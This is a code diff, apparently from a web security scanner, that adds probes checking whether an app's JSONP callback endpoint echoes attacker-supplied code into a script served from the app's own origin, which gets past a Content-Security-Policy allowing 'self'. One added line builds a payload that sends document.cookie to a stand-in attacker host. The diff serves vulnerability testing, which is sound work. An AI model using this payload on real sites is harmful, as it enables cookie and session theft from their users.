@@ -1,10 +1,11 @@
 //! Values that the app writes into its pages. These need no script: no Content-Security-Policy keeps them from working.
 
+use crate::app::fill;
 use crate::browser::{From, How};
-use crate::context::Context;
+use crate::context::{Context, described};
 use crate::cookies::Jar;
 use crate::encode;
-use crate::http::Request;
+use crate::http::{Request, Response};
 use crate::probe::{Failed, Twin, Verdict};
 
 /// A tag that every browser follows at once.
@@ -102,4 +103,34 @@ pub(super) fn search_for_code(context: &mut Context<'_>) -> Result<Twin, Failed>
     let words = format!("if (a < b && b > {mark}) return \"<b>bold</b>\";");
     let answer = context.visit(&context.search_path(&words)?, &Jar::default())?;
     Ok(Twin::of(answer.contains(&mark), &answer, "a search for a line of code"))
+}
+
+/// Data in the shape of a call of `name`.
+fn called(context: &mut Context<'_>, name: &str) -> Result<(bool, Response), Failed> {
+    let path = fill(&described(&context.app.callback, "callback")?.path, "text", name);
+    let script = context.fetch(&path, &Jar::default())?;
+    let is_script = script.header("content-type").is_some_and(|kind| kind.contains("javascript"));
+    Ok((is_script && script.text().trim_start_matches("/**/").starts_with(name), script))
+}
+
+/// Code of the attacker's in a script of the app's own, which every Content-Security-Policy with `'self'` lets run.
+pub(super) fn callback(context: &mut Context<'_>) -> Result<Verdict, Failed> {
+    let code = format!("fetch('https://evil.example/{}?'+document.cookie)//", encode::mark());
+    let (worked, script) = called(context, &code)?;
+    Ok(if worked {
+        Verdict::succeeded(format!("a script of the app's own begins with {code}"))
+    } else {
+        Verdict::refused(&script, "the code is in no script of the app")
+    })
+}
+
+/// A page asks for data by the names that libraries make up.
+pub(super) fn own_callback(context: &mut Context<'_>) -> Result<Twin, Failed> {
+    for name in ["showComments", "jQuery36105_1763800000.done", "window.widgets[0].show"] {
+        let (worked, script) = called(context, name)?;
+        if !worked {
+            return Ok(Twin::of(false, &script, name));
+        }
+    }
+    Ok(Twin::Passed)
 }
